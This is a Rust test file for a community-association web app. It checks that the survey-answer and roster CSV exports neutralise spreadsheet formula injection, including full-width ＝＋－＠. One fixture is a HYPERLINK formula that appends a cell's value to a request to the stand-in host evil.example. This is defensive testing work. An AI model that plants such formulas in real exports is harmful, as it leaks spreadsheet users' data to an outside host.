//! Finding 6: every cell of every CSV the server writes is spreadsheet-safe, the header row
//! (survey prompts) included, and full-width ＝＋－＠ count as formula starts.

use chrono::{Duration, Utc};
use serde_json::json;

use crate::fixtures::{City, create_household, expect_json, str_field};
use crate::helpers::spawn_app;

/// The CSV's cells, the BOM dropped, as the csv crate reads them.
fn cells(bytes: &[u8]) -> Vec<Vec<String>> {
    assert!(
        bytes.starts_with(b"\xEF\xBB\xBF"),
        "the CSV starts with a BOM"
    );
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(&bytes[3..])
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

#[tokio::test]
async fn survey_prompts_in_the_header_and_full_width_answers_are_neutralised() {
    let app = spawn_app().await;
    let city = City::build(&app).await;
    let prompt = "=HYPERLINK(\"http://evil.example/?\"&A2,\"詳細\")";
    let body = json!({
        "scope": {"kind": "association", "id": city.association_a},
        "title": "アンケート",
        "body": "お答えください。",
        "category": "survey",
        "questions": [
            {"kind": "single_choice", "prompt": "＋出欠", "options": ["＠出席", "欠席"], "required": true},
            {"kind": "short_text", "prompt": prompt},
        ],
        "answers_until": (Utc::now() + Duration::days(7)).to_rfc3339(),
    });
    let created = expect_json(
        app.post_as(&city.officer_a, "/api/v1/posts", &body).await,
        201,
    )
    .await;
    let post = str_field(&created, "id");
    let q: Vec<String> = created["questions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|q| str_field(q, "id"))
        .collect();
    let answer = json!({"answers": [
        {"question_id": q[0], "choice": 0},
        {"question_id": q[1], "text": "＝1+1"},
    ]});
    let path = format!("/api/v1/posts/{post}/answers");
    let response = app
        .send_as(
            reqwest::Method::PUT,
            Some(&city.resident_h1),
            &path,
            Some(&answer),
        )
        .await;
    expect_json(response, 200).await;

    let response = app
        .get_as(
            &city.officer_a,
            &format!("/api/v1/posts/{post}/answers.csv"),
        )
        .await;
    assert_eq!(response.status(), 200);
    let rows = cells(&response.bytes().await.unwrap());
    assert_eq!(rows[0][3], "'＋出欠");
    assert_eq!(rows[0][4], format!("'{prompt}"));
    assert_eq!(rows[1][3], "'＠出席");
    assert_eq!(rows[1][4], "'＝1+1");
}

#[tokio::test]
async fn roster_labels_are_neutralised_in_the_roster_file() {
    let app = spawn_app().await;
    let city = City::build(&app).await;
    for label in ["－1+2", "＠SUM(A1)", "-3"] {
        create_household(
            &app,
            &city.officer_a,
            &city.association_a,
            label,
            None,
            false,
        )
        .await;
    }
    let path = format!("/api/v1/associations/{}/roster.csv", city.association_a);
    let response = app.get_as(&city.officer_a, &path).await;
    assert_eq!(response.status(), 200);
    let labels: Vec<String> = cells(&response.bytes().await.unwrap())
        .into_iter()
        .map(|row| row[2].clone())
        .collect();
    for label in ["'－1+2", "'＠SUM(A1)", "'-3"] {
        assert!(labels.iter().any(|l| l == label), "{label} in {labels:?}");
    }
}
